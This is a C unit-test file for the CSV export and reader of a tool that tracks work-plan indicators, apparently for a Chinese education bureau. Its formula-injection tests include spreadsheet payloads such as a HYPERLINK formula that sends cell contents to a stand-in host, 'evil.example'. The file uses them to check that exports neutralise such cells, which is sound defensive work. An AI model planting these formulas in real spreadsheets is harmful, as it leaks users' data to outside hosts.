/* test-csv.c: the indicator table as CSV (export) and the CSV reader */

#include "config.h"

#include <glib/gi18n.h>
#include <glib/gstdio.h>
#include <locale.h>
#include <string.h>

#include "jp-csv.h"
#include "jp-document-import.h"
#include "jp-json.h"
#include "jp-model.h"
#include "jp-progress-import.h"
#include "jp-report.h"

#define BOM "\xEF\xBB\xBF"

/* ---- Fixtures -------------------------------------------------------- */

/* tests/data/csv/plan.json: 3 sections, items 1, 2, 3 and a second item 1,
 * 11 indicators, a few progress entries. */
static JpPlan *
load_fixture_plan (void)
{
  g_autofree char *path = g_build_filename (JP_TEST_DATADIR, "csv", "plan.json", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) plans = jp_json_import_file (file, NULL, &error);

  g_assert_no_error (error);
  g_assert_cmpuint (plans->len, ==, 1);
  return g_object_ref (g_ptr_array_index (plans, 0));
}

/* The reference plan, as the document importer reads it. */
static JpPlan *
load_reference_plan (void)
{
  g_autofree char *path = g_build_filename (JP_TEST_DATADIR, "jinfeng-2023.txt", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GError) error = NULL;
  JpPlan *plan = jp_document_import_file (file, NULL, NULL, &error);

  g_assert_no_error (error);
  g_assert_nonnull (plan);
  return plan;
}

static char *
read_data_file (const char *name)
{
  g_autofree char *path = g_build_filename (JP_TEST_DATADIR, "csv", name, NULL);
  g_autoptr(GError) error = NULL;
  char *text = NULL;

  g_file_get_contents (path, &text, NULL, &error);
  g_assert_no_error (error);
  return text;
}

static GPtrArray *
parse_export (const char *text,
              gsize       length)
{
  g_autoptr(GError) error = NULL;
  GPtrArray *records;

  g_assert_true (length >= 3 && memcmp (text, BOM, 3) == 0);
  records = jp_csv_parse (text, length, ',', "export.csv", &error);
  g_assert_no_error (error);
  g_assert_nonnull (records);
  return records;
}

static const char *
field (GPtrArray *records,
       guint      row,
       guint      column)
{
  JpCsvRecord *record = g_ptr_array_index (records, row);

  g_assert_cmpuint (column, <, record->fields->len);
  return g_ptr_array_index (record->fields, column);
}

/* ---- Export ---------------------------------------------------------- */

/* The reference plan: a BOM, one header row and one row per indicator
 * (36), 16 fields each, in plan order. */
static void
test_export_reference (void)
{
  g_autoptr(JpPlan) plan = load_reference_plan ();
  g_autoptr(GPtrArray) items = jp_plan_dup_items (plan);
  g_autoptr(GPtrArray) records = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  gsize length = 0;
  guint row = 1;

  g_assert_cmpuint (jp_plan_get_n_indicators (plan), ==, 36);

  text = jp_csv_export_indicators (plan, "2023-06-30", NULL, &length, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (length, ==, strlen (text));
  g_assert_true (g_str_has_prefix (text, BOM "Section,No.,Work item,Leaders,Units,Indicator,Kind,"
                                   "Target,Upper limit,Unit,Current value,Date reported,"
                                   "Completion,Status,Last reported,Expected,Flags,Indicator ID\r\n"));
  g_assert_true (g_str_has_suffix (text, "\r\n"));

  records = parse_export (text, length);
  g_assert_cmpuint (records->len, ==, 1 + 36);

  for (guint i = 0; i < items->len; i++)
    {
      JpItem *item = g_ptr_array_index (items, i);
      GListModel *indicators = jp_item_get_indicators (item);

      for (guint j = 0; j < g_list_model_get_n_items (indicators); j++, row++)
        {
          g_autoptr(JpIndicator) indicator = g_list_model_get_item (indicators, j);
          g_autofree char *number = g_strdup_printf ("%d", jp_item_get_number (item));
          JpCsvRecord *record = g_ptr_array_index (records, row);

          g_assert_cmpuint (record->fields->len, ==, JP_CSV_N_COLUMNS);
          g_assert_cmpstr (field (records, row, JP_CSV_COLUMN_NUMBER), ==, number);
          g_assert_cmpstr (field (records, row, JP_CSV_COLUMN_ITEM), ==, jp_item_get_title (item));
          g_assert_cmpstr (field (records, row, JP_CSV_COLUMN_INDICATOR), ==,
                           jp_csv_indicator_get_label (indicator));
          /* Nothing recorded while something is expected: no report. */
          g_assert_cmpstr (field (records, row, JP_CSV_COLUMN_STATUS), ==, "No report");
        }
    }
  g_assert_cmpuint (row, ==, records->len);
}

/* Every cell of the fixture's table as of two dates, against files checked
 * by hand: words, numbers and percentages as the model writes them, the
 * value and date of the latest entry on or before the as-of date. */
static void
test_export_golden (void)
{
  static const struct { const char *as_of; const char *file; } cases[] = {
    { "2023-06-30", "expected-2023-06-30.csv" },
    { "2023-04-30", "expected-2023-04-30.csv" },
  };
  g_autoptr(JpPlan) plan = load_fixture_plan ();

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autofree char *expected = read_data_file (cases[i].file);
      g_autofree char *text = jp_csv_export_indicators (plan, cases[i].as_of, NULL, NULL, &error);

      g_assert_no_error (error);
      g_assert_cmpstr (text, ==, expected);
    }
}

/* The Expected and Flags columns: e as the model computes it, "Late
 * report" exactly on the rows the model flags (a quarterly cycle), and a
 * self-reported completion far from the indicators' on its item's rows. */
static void
test_export_expected_and_flags (void)
{
  g_autoptr(JpPlan) plan = load_fixture_plan ();
  g_autoptr(JpItemUpdate) update = jp_item_update_new ("2023-06-15");
  g_autoptr(GPtrArray) records = NULL;
  g_autoptr(GPtrArray) items = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  JpItem *item2;
  gsize length = 0;
  guint row = 1, n_late = 0, n_on_time = 0, n_self = 0;

  /* Item 2 of the second section (扩大优质学位供给): 300 of 630 and nothing
   * else, but its update says 100%. */
  jp_plan_set_report_cycle (plan, "quarterly:+10");
  items = jp_plan_dup_items (plan);
  item2 = g_ptr_array_index (items, 1);
  g_assert_cmpstr (jp_item_get_title (item2), ==, "扩大优质学位供给");
  jp_item_update_set_has_completion (update, TRUE);
  jp_item_update_set_completion (update, 100);
  jp_item_add_update (item2, update);

  text = jp_csv_export_indicators (plan, "2023-06-30", NULL, &length, &error);
  g_assert_no_error (error);
  records = parse_export (text, length);
  g_assert_cmpstr (field (records, 0, JP_CSV_COLUMN_EXPECTED), ==, "Expected");
  g_assert_cmpstr (field (records, 0, JP_CSV_COLUMN_FLAGS), ==, "Flags");
  for (guint i = 0; i < items->len; i++)
    {
      JpItem *item = g_ptr_array_index (items, i);
      GListModel *indicators = jp_item_get_indicators (item);
      JpProgress item_progress;

      jp_item_evaluate (item, "2023-06-30", &item_progress);
      for (guint j = 0; j < g_list_model_get_n_items (indicators); j++, row++)
        {
          g_autoptr(JpIndicator) indicator = g_list_model_get_item (indicators, j);
          g_autofree char *expected = NULL;
          const char *flags = field (records, row, JP_CSV_COLUMN_FLAGS);
          JpProgress p;

          jp_indicator_evaluate (indicator, "2023-06-30", &p);
          expected = jp_format_percent (p.expected);
          g_assert_cmpstr (field (records, row, JP_CSV_COLUMN_EXPECTED), ==, expected);
          g_assert_cmpint (strstr (flags, "Late report") != NULL, ==, p.late_report);
          g_assert_cmpint (strstr (flags, "Self-report differs from the indicators") != NULL, ==,
                           item == item2);
          if (p.late_report)
            n_late++;
          else
            n_on_time++;
          if (item == item2)
            {
              g_assert_true (item_progress.self_report_differs);
              n_self++;
            }
        }
    }
  g_assert_cmpuint (row, ==, records->len);
  g_assert_cmpuint (n_late, >, 0);
  g_assert_cmpuint (n_on_time, >, 0);
  g_assert_cmpuint (n_self, ==, 3);
}

/* Without an as-of date: the plan's default (its end for a past plan). */
static void
test_export_default_as_of (void)
{
  g_autoptr(JpPlan) plan = load_fixture_plan ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dflt = jp_csv_export_indicators (plan, NULL, NULL, NULL, &error);
  g_autofree char *end = NULL;

  g_assert_no_error (error);
  end = jp_csv_export_indicators (plan, jp_plan_get_end (plan), NULL, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (dflt, ==, end);

  g_assert_null (jp_csv_export_indicators (plan, "2023-13-01", NULL, NULL, &error));
  g_assert_error (error, JP_IMPORT_ERROR, JP_IMPORT_ERROR_BAD_VALUE);
}

static guint
count_rows (JpPlan     *plan,
            const char *spec)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) records = NULL;
  g_autofree char *text = NULL;
  gsize length = 0;

  text = jp_csv_export_indicators (plan, "2023-06-30", spec, &length, &error);
  g_assert_no_error (error);
  records = parse_export (text, length);
  return records->len - 1;
}

/* leader:NAME and unit:NAME keep only their items' rows (a unit's partner
 * items included, as in its PDF report); unknown names and kinds fail. */
static void
test_export_filter (void)
{
  static const struct { const char *spec; guint n_rows; const char *first_indicator; } cases[] = {
    { NULL,                     11, "党支部规范化率（一星级及以上）" },
    { "summary",                11, "党支部规范化率（一星级及以上）" },
    { "leader:张学兵",          6,  "党支部规范化率（一星级及以上）" },
    { "leader:张 学兵",         6,  "党支部规范化率（一星级及以上）" },
    { "leader:高学芳",          5,  "党支部规范化率（一星级及以上）" },
    { "leader:崔茜",            3,  "新增学位" },
    { "leader:马丽",            3,  "近视率" },
    { "unit:基建办",            3,  "新增学位" },
    { "unit:各中小学校、幼儿园", 5,  "新增学位" },
    { "unit:体卫艺科",          3,  "近视率" },
  };
  g_autoptr(JpPlan) plan = load_fixture_plan ();
  g_autoptr(GError) error = NULL;
  g_autofree char *label = NULL;
  GPtrArray *none;

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GPtrArray) records = NULL;
      g_autofree char *text = NULL;
      gsize length = 0;

      text = jp_csv_export_indicators (plan, "2023-06-30", cases[i].spec, &length, &error);
      g_assert_no_error (error);
      records = parse_export (text, length);
      g_assert_cmpuint (records->len - 1, ==, cases[i].n_rows);
      g_assert_cmpstr (field (records, 1, JP_CSV_COLUMN_INDICATOR), ==, cases[i].first_indicator);
    }

  g_assert_cmpuint (count_rows (plan, "leader:崔茜"), ==, 3);

  {
    g_autoptr(GPtrArray) items = jp_csv_select_items (plan, "unit:体卫艺科", &label, &error);

    g_assert_no_error (error);
    g_assert_cmpuint (items->len, ==, 1);
    g_assert_cmpstr (label, ==, "Unit: 体卫艺科");
  }

  none = jp_csv_select_items (plan, "leader:王五", NULL, &error);
  g_assert_null (none);
  g_assert_error (error, JP_REPORT_ERROR, JP_REPORT_ERROR_UNKNOWN_NAME);
  g_assert_nonnull (strstr (error->message, "王五"));
  g_assert_nonnull (strstr (error->message, "崔茜"));
  g_clear_error (&error);

  g_assert_null (jp_csv_export_indicators (plan, NULL, "unit:不存在", NULL, &error));
  g_assert_error (error, JP_REPORT_ERROR, JP_REPORT_ERROR_UNKNOWN_NAME);
  g_clear_error (&error);

  g_assert_null (jp_csv_export_indicators (plan, NULL, "section:一", NULL, &error));
  g_assert_error (error, JP_REPORT_ERROR, JP_REPORT_ERROR_UNKNOWN_KIND);
}

/* Under zh_CN the headings are the bureau's words. */
static void
test_export_zh_cn (void)
{
  g_autoptr(JpPlan) plan = load_fixture_plan ();
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  g_autofree char *mo = g_build_filename (BUILD_LOCALEDIR, "zh_CN", "LC_MESSAGES",
                                          GETTEXT_PACKAGE ".mo", NULL);

  /* Built with the project (po/); its absence is a build failure. */
  g_assert_true (g_file_test (mo, G_FILE_TEST_IS_REGULAR));

  g_setenv ("LANGUAGE", "zh_CN", TRUE);
  setlocale (LC_ALL, "");
  bindtextdomain (GETTEXT_PACKAGE, BUILD_LOCALEDIR);
  bind_textdomain_codeset (GETTEXT_PACKAGE, "UTF-8");

  text = jp_csv_export_indicators (plan, "2023-06-30", "leader:张学兵", NULL, &error);
  g_assert_no_error (error);
  g_assert_true (g_str_has_prefix (text, BOM "部分,序号,工作要点,责任领导,责任单位,指标,类型,目标,"
                                   "上限,单位,当前值,填报日期,完成率,状态,最近填报日期,应达,标记,指标编号\r\n"
                                   "一、坚持党建引领，夯实党建基础,1,全面加强教育系统党的建设,"
                                   "张学兵、高学芳,教育党工委；各支部,党支部规范化率（一星级及以上）,"
                                   "不低于,90,,%,72,,80%,正常推进,2023-06-30,49.45%,,\r\n"));

  g_unsetenv ("LANGUAGE");
  setlocale (LC_ALL, "");
}

/* A file is written whole, or not at all. */
static void
test_write_file (void)
{
  g_autoptr(JpPlan) plan = load_fixture_plan ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("test-csv-XXXXXX", &error);
  g_autofree char *path = NULL;
  g_autofree char *missing = NULL;
  g_autofree char *written = NULL;
  g_autofree char *expected = NULL;
  g_autoptr(GDir) listing = NULL;
  guint n_files = 0;

  g_assert_no_error (error);
  path = g_build_filename (dir, "指标.csv", NULL);
  g_assert_true (jp_csv_write_indicators (plan, "2023-06-30", NULL, path, &error));
  g_assert_no_error (error);
  g_file_get_contents (path, &written, NULL, &error);
  g_assert_no_error (error);
  expected = jp_csv_export_indicators (plan, "2023-06-30", NULL, NULL, &error);
  g_assert_cmpstr (written, ==, expected);

  /* A bad selection leaves the file as it was. */
  g_assert_false (jp_csv_write_indicators (plan, "2023-06-30", "leader:王五", path, &error));
  g_assert_error (error, JP_REPORT_ERROR, JP_REPORT_ERROR_UNKNOWN_NAME);
  g_clear_error (&error);
  g_clear_pointer (&written, g_free);
  g_file_get_contents (path, &written, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (written, ==, expected);

  missing = g_build_filename (dir, "no-such-folder", "x.csv", NULL);
  g_assert_false (jp_csv_write_indicators (plan, NULL, NULL, missing, &error));
  g_assert_error (error, G_FILE_ERROR, G_FILE_ERROR_NOENT);
  g_assert_nonnull (strstr (error->message, missing));

  /* No temporary file left behind. */
  listing = g_dir_open (dir, 0, NULL);
  while (g_dir_read_name (listing) != NULL)
    n_files++;
  g_assert_cmpuint (n_files, ==, 1);

  g_unlink (path);
  g_rmdir (dir);
}

/* ---- Fields and parsing ---------------------------------------------- */

static void
test_append_field (void)
{
  /* @back: what the reader makes of it (line breaks become "\n"). */
  static const struct { const char *in; const char *out; const char *back; } cases[] = {
    { "",               "",                       "" },
    { "plain",          "plain",                  "plain" },
    { "中文，全角逗号", "中文，全角逗号",         "中文，全角逗号" },
    { "a,b",            "\"a,b\"",                "a,b" },
    { "say \"hi\"",     "\"say \"\"hi\"\"\"",       "say \"hi\"" },
    { "two\nlines",     "\"two\nlines\"",          "two\nlines" },
    { "cr\rhere",       "\"cr\rhere\"",            "cr\nhere" },
    { "crlf\r\nhere",   "\"crlf\r\nhere\"",        "crlf\nhere" },
    { " edge",          "\" edge\"",              " edge" },
    { "edge ",          "\"edge \"",              "edge " },
    { "a; b",           "\"a; b\"",               "a; b" },
    { "90%",            "90%",                    "90%" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GString) out = g_string_new (NULL);
      g_autoptr(GPtrArray) records = NULL;
      g_autoptr(GError) error = NULL;

      jp_csv_append_field (out, cases[i].in);
      g_assert_cmpstr (out->str, ==, cases[i].out);

      g_string_append (out, ",x\r\n");
      records = jp_csv_parse (out->str, out->len, ',', "t", &error);
      g_assert_no_error (error);
      g_assert_cmpuint (records->len, ==, 1);
      g_assert_cmpstr (field (records, 0, 0), ==, cases[i].back);
      g_assert_cmpstr (field (records, 0, 1), ==, "x");
    }
}

/* Records as "line:field|field…" joined by " / ". */
static char *
describe_records (GPtrArray *records)
{
  g_autoptr(GString) out = g_string_new (NULL);

  for (guint r = 0; r < records->len; r++)
    {
      JpCsvRecord *record = g_ptr_array_index (records, r);

      if (r > 0)
        g_string_append (out, " / ");
      g_string_append_printf (out, "%u:", record->line);
      for (guint f = 0; f < record->fields->len; f++)
        {
          if (f > 0)
            g_string_append_c (out, '|');
          g_string_append (out, g_ptr_array_index (record->fields, f));
        }
    }

  return g_string_free (g_steal_pointer (&out), FALSE);
}

static void
test_parse (void)
{
  static const struct { const char *in; char sep; const char *out; } cases[] = {
    { "a,b\r\nc,d\r\n",                ',',  "1:a|b / 2:c|d" },
    { "a,b\nc,d",                      ',',  "1:a|b / 2:c|d" },
    { "a,b\rc,d\r",                    ',',  "1:a|b / 2:c|d" },
    { BOM "a,b\n",                     ',',  "1:a|b" },
    { "a,,\n,,\n",                     ',',  "1:a|| / 2:||" },
    { "\n\na\n\n b \n",                ',',  "3:a / 5: b " },
    { "\"x,y\",\"say \"\"hi\"\"\"\n",  ',',  "1:x,y|say \"hi\"" },
    { "\"two\r\nlines\",z\nnext\n",    ',',  "1:two\nlines|z / 3:next" },
    { "\"\"\n",                        ',',  "1:" },
    { "a\"b,c\n",                      ',',  "1:a\"b|c" },
    { "\"q\"tail,c\n",                 ',',  "1:qtail|c" },
    { "序号\t指标\n1\t新增学位\n",     '\t', "1:序号|指标 / 2:1|新增学位" },
    { "a;b\n",                         ';',  "1:a|b" },
    { "",                              ',',  "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(GPtrArray) records = jp_csv_parse (cases[i].in, strlen (cases[i].in),
                                                   cases[i].sep, "t", &error);
      g_autofree char *described = NULL;

      g_assert_no_error (error);
      described = describe_records (records);
      g_assert_cmpstr (described, ==, cases[i].out);
    }
}

static void
test_parse_unclosed (void)
{
  static const char text[] = "a,b\nc,\"open\nstill open\n";
  g_autoptr(GError) error = NULL;
  GPtrArray *records = jp_csv_parse (text, strlen (text), ',', "进展.csv", &error);

  g_assert_null (records);
  g_assert_error (error, JP_IMPORT_ERROR, JP_IMPORT_ERROR_PARSE);
  g_assert_true (g_str_has_prefix (error->message, "进展.csv:2: "));
}

/* Formula injection (OWASP "CSV injection"): a text cell that starts like
 * a formula gets a leading apostrophe; numbers do not; the reader of our
 * own table (the progress import) gets the text back. */
static void
test_guard (void)
{
  static const struct { const char *in; const char *out; } cases[] = {
    { "=HYPERLINK(\"http://evil.example\",\"x\")",
      "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"" },
    { "+1+2",              "'+1+2" },
    { "-2+3",              "'-2+3" },
    { "@SUM(A1)",          "'@SUM(A1)" },
    { "\t=1",              "\"'\t=1\"" },
    { "\r=1",              "\"'\r=1\"" },
    { "  =1",              "'  =1" },
    { "'=1",               "''=1" },
    { "''-1",              "'''-1" },
    { "plain",             "plain" },
    { "'quoted",           "'quoted" },
    { "a=b",               "a=b" },
    { "一、=开头",         "一、=开头" },
    { "",                  "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GString) out = g_string_new (NULL);
      g_autoptr(GPtrArray) records = NULL;
      g_autoptr(GError) error = NULL;

      g_test_message ("%s", cases[i].in);
      jp_csv_append_text_field (out, cases[i].in);
      g_assert_cmpstr (out->str, ==, cases[i].out);

      records = jp_csv_parse (out->str, out->len, ',', "t", &error);
      g_assert_no_error (error);
      if (*cases[i].in == '\0')
        continue;
      g_assert_cmpuint (records->len, ==, 1);
      /* The reader keeps the apostrophe; jp_csv_strip_guard() removes
       * exactly the one that was added ("\r" reads back as "\n"). */
      if (strchr (cases[i].in, '\r') == NULL)
        g_assert_cmpstr (jp_csv_strip_guard (field (records, 0, 0)), ==, cases[i].in);
    }

  g_assert_cmpstr (jp_csv_strip_guard ("'quoted"), ==, "'quoted");
  g_assert_cmpstr (jp_csv_strip_guard ("'=x"), ==, "=x");
}

static void
test_export_formula_injection (void)
{
  g_autoptr(JpPlan) plan = load_fixture_plan ();
  g_autoptr(GPtrArray) items = jp_plan_dup_items (plan);
  JpItem *item = g_ptr_array_index (items, 0);
  g_autoptr(JpIndicator) indicator = g_list_model_get_item (jp_item_get_indicators (item), 0);
  g_autoptr(JpIndicator) other = g_list_model_get_item (jp_item_get_indicators (item), 1);
  g_autoptr(GPtrArray) records = NULL;
  g_autoptr(GString) edited = g_string_new (NULL);
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(JpProgressImport) import = NULL;
  g_autoptr(JpProgressRow) row = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  gsize length = 0;

  jp_item_set_title (item, "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")");
  jp_indicator_set_name (indicator, "=1+2");
  jp_indicator_set_unit (indicator, "@x");
  jp_indicator_set_name (other, "-非法");
  jp_indicator_set_target (other, -0.5);

  text = jp_csv_export_indicators (plan, "2023-06-30", NULL, &length, &error);
  g_assert_no_error (error);
  g_assert_nonnull (strstr (text, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\","));
  g_assert_null (strstr (text, ",=HYPERLINK"));
  g_assert_null (strstr (text, ",\"=HYPERLINK"));
  g_assert_nonnull (strstr (text, ",'=1+2,"));
  g_assert_nonnull (strstr (text, ",'@x,"));
  g_assert_nonnull (strstr (text, ",'-非法,"));
  /* A negative number in a number column stays a number. */
  g_assert_nonnull (strstr (text, ",-0.5,"));
  g_assert_null (strstr (text, "'-0.5"));

  records = parse_export (text, length);
  g_assert_cmpstr (field (records, 1, JP_CSV_COLUMN_ITEM), ==,
                   "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")");
  g_assert_cmpstr (field (records, 1, JP_CSV_COLUMN_INDICATOR), ==, "'=1+2");
  g_assert_cmpstr (field (records, 2, JP_CSV_COLUMN_TARGET), ==, "-0.5");

  /* The progress import reads the guarded names back: a value filled in
   * the row of "=1+2" goes to that indicator. */
  for (guint r = 0; r < records->len; r++)
    {
      JpCsvRecord *record = g_ptr_array_index (records, r);

      if (r == 1)
        {
          g_free (g_ptr_array_index (record->fields, JP_CSV_COLUMN_VALUE));
          g_ptr_array_index (record->fields, JP_CSV_COLUMN_VALUE) = g_strdup ("42");
        }
      for (guint c = 0; c < record->fields->len; c++)
        {
          if (c > 0)
            g_string_append_c (edited, ',');
          jp_csv_append_field (edited, g_ptr_array_index (record->fields, c));
        }
      g_string_append (edited, "\r\n");
    }
  bytes = g_bytes_new (edited->str, edited->len);
  import = jp_progress_import_new_for_bytes (plan, bytes, "export.csv", "2023-09-30", NULL,
                                             &error);
  g_assert_no_error (error);
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (import)), >=, 1);
  row = g_list_model_get_item (G_LIST_MODEL (import), 0);
  g_assert_cmpuint (jp_progress_row_get_line (row), ==, 2);
  g_assert_cmpstr (jp_progress_row_get_message (row), ==, NULL);
  g_assert_cmpuint (jp_progress_row_get_state (row), ==, JP_PROGRESS_ROW_NEW);
  g_assert_true (jp_progress_row_get_indicator (row) == indicator);
  g_assert_cmpfloat (jp_progress_row_get_value (row), ==, 42);
  g_assert_cmpuint (jp_progress_import_get_n_errors (import), ==, 0);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/jp/csv/export-reference", test_export_reference);
  g_test_add_func ("/jp/csv/export-golden", test_export_golden);
  g_test_add_func ("/jp/csv/export-expected-and-flags", test_export_expected_and_flags);
  g_test_add_func ("/jp/csv/export-default-as-of", test_export_default_as_of);
  g_test_add_func ("/jp/csv/export-filter", test_export_filter);
  g_test_add_func ("/jp/csv/export-zh-cn", test_export_zh_cn);
  g_test_add_func ("/jp/csv/write-file", test_write_file);
  g_test_add_func ("/jp/csv/append-field", test_append_field);
  g_test_add_func ("/jp/csv/guard", test_guard);
  g_test_add_func ("/jp/csv/export-formula-injection", test_export_formula_injection);
  g_test_add_func ("/jp/csv/parse", test_parse);
  g_test_add_func ("/jp/csv/parse-unclosed", test_parse_unclosed);

  return g_test_run ();
}
